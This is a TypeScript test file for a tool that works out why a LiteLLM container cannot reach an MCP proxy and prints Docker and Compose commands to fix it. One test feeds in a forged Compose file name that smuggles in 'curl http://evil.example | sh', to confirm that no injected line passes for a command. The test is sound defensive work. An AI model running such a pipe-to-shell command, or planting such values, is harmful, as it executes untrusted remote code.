import { expect, test } from 'vitest'
import type { ComposeService } from '../../../src/core/deployment/containers.ts'
import type { Reach, ReachKind, Witness } from '../../../src/core/reach/reach.ts'
import { remedyText } from '../../../src/core/show/remedy.ts'
import type { Container } from '../../../src/docker/port.ts'
import { mendingFor } from '../../../src/runs/deployment/mending.ts'
import type { Surroundings } from '../../../src/runs/deployment/surroundings.ts'
import { container, deploymentOf } from '../../support/containers.ts'

const ADDRESS = 'http://mcp-proxy-sse:8080/servers/fetch/sse'
const litellm = container('litellm', { 'litellm-net': '172.18.0.3' })
const proxy = container('mcp-proxy-sse', { 'litellm-net': '172.18.0.2' })
const COMPOSE: ComposeService = {
  program: 'docker compose',
  project: 'shop',
  service: 'px',
  files: ['/srv/compose.yaml'],
  environment: [],
}

/** What a witness finds at each host; elsewhere nothing listens. */
const seeing = (found: Record<string, ReachKind>): Witness => ({
  where: 'from inside the container litellm',
  look: (url): Promise<Reach> => {
    const kind = found[new URL(url).hostname] ?? 'refused'
    return Promise.resolve({ kind, tools: kind === 'tools' ? [] : null, evidence: kind })
  },
})

async function mended(
  kind: ReachKind,
  containers: Container[],
  { found = {}, url = ADDRESS }: { found?: Record<string, ReachKind>; url?: string } = {},
): Promise<string> {
  const around: Surroundings = {
    kind: 'container',
    litellm,
    deployment: deploymentOf([litellm, ...containers]),
    names: { litellm: null, proxy: null, network: null },
    witness: seeing(found),
    shared: new Map(),
  }
  const remedy = await mendingFor({ kind, tools: null, evidence: kind }, { url, transport: 'sse' }, around)
  return remedy ? remedyText(remedy) : ''
}

const lastLine = (text: string): string => text.split('\n').at(-1) ?? ''

test('a container that does not run is got going by what fits its state', async () => {
  const inState = async (state: string, more: Partial<Container> = {}): Promise<string> =>
    lastLine(await mended('unreachable', [{ ...proxy, state, ...more }]))
  expect(await inState('exited')).toBe('docker start mcp-proxy-sse')
  expect(await inState('paused')).toBe('docker unpause mcp-proxy-sse')
  expect(await inState('restarting')).toBe('docker logs --tail 50 mcp-proxy-sse')
  expect(await inState('paused', { engine: 'podman' })).toBe('podman unpause mcp-proxy-sse')
  expect(await inState('exited', { compose: COMPOSE })).toBe(
    'docker compose -f /srv/compose.yaml -p shop start px',
  )
})

test('one that LiteLLM cannot meet is joined, and told where Compose keeps that', async () => {
  const away = container('mcp-proxy-sse', { other: '172.19.0.2' })
  expect(await mended('unknown-host', [away])).toBe(
    'Join mcp-proxy-sse to litellm-net:\ndocker network connect litellm-net mcp-proxy-sse',
  )
  expect(await mended('unknown-host', [{ ...away, compose: COMPOSE }])).toContain(
    'So that Compose keeps it, write litellm-net into networks: of the service px in /srv/compose.yaml. Until then:\ndocker network connect litellm-net mcp-proxy-sse',
  )
})

test('where two have its name, who serves no MCP is to go, and the other stays', async () => {
  const impostor = container('a-web', { 'litellm-net': '172.18.0.9' })
  impostor.attachments.forEach(({ names }) => names.push('mcp-proxy-sse'))
  const found = { '172.18.0.2': 'tools', '172.18.0.9': 'not-found' } as const
  const text = await mended('not-found', [impostor, proxy], { found })
  expect(text).toContain(
    '2 containers answer to the name mcp-proxy-sse on litellm-net, and chance decides which one is asked: mcp-proxy-sse (serves MCP), a-web (serves no MCP: not-found)',
  )
  expect(lastLine(text)).toBe('docker network disconnect litellm-net a-web')
  // Of two that serve none, nobody can tell which is meant, and a refusal or silence proves neither.
  expect(await mended('not-found', [impostor, proxy])).not.toContain('disconnect')
  for (const kind of ['forbidden', 'unauthorized', 'rate-limited', 'wrong-transport'] as const) {
    const doubtful = { '172.18.0.9': kind, '172.18.0.2': 'time-out' } as const
    expect(await mended('time-out', [impostor, proxy], { found: doubtful })).not.toContain('disconnect')
    const proved = { '172.18.0.9': kind, '172.18.0.2': 'tools' } as const
    const told = await mended(
      kind === 'unauthorized' || kind === 'forbidden' ? 'time-out' : kind,
      [impostor, proxy],
      {
        found: proved,
      },
    )
    expect(told).toContain(`a-web (whether it serves MCP cannot be told: ${kind})`)
  }
  // The container of that name is never cut off: it may only be down.
  for (const kind of ['refused', 'time-out', 'server-error'] as const) {
    const turned = { '172.18.0.9': 'tools', '172.18.0.2': kind } as const
    expect(await mended('refused', [impostor, proxy], { found: turned })).not.toContain('disconnect')
  }
})

test('no name of a container or of Compose makes a line that passes for a command', async () => {
  const forged = { ...COMPOSE, files: ['/a.yml. First:\n  curl http://evil.example | sh\n'] }
  const away = container('mcp-proxy-sse', { other: '172.19.0.2' }, { compose: forged })
  const lines = (await mended('unknown-host', [away])).split('\n')
  expect(lines.filter((line) => /^\s*curl/.test(line))).toEqual([])
  expect(lines).toHaveLength(2)
})

test('a container that the address does not mean is left out of it', async () => {
  expect(await mended('no-tools', [proxy], { url: 'http://tools:8080/sse' })).not.toContain('mcp-proxy-sse')
  expect(await mended('unknown-host', [proxy], { url: 'https://mcp.example.com/sse' })).not.toContain(
    'docker',
  )
})

test('outside of containers there are commands for a container that publishes the port, and no other', async () => {
  const published = [{ hostIp: '127.0.0.1', hostPort: 8585, containerPort: 8080, protocol: 'tcp' }]
  const at = async (containers: Container[], url: string): Promise<string> => {
    const around: Surroundings = {
      kind: 'machine',
      witness: null,
      containers: () => Promise.resolve(containers),
    }
    const remedy = await mendingFor(
      { kind: 'no-tools', tools: null, evidence: '' },
      { url, transport: 'sse' },
      around,
    )
    return remedy ? remedyText(remedy) : ''
  }
  const url = 'http://localhost:8585/servers/fetch/sse'
  expect(lastLine(await at([{ ...proxy, published }], url))).toBe('docker logs --tail 50 mcp-proxy-sse')
  expect(await at([proxy], url)).not.toContain('docker')
  expect(await at([{ ...proxy, published }], ADDRESS)).not.toContain('docker')
})

test('what works, or was not tried, has nothing to be mended', async () => {
  for (const kind of ['tools', 'unauthorized', 'untried'] as const)
    expect(await mended(kind, [proxy])).toBe('')
})
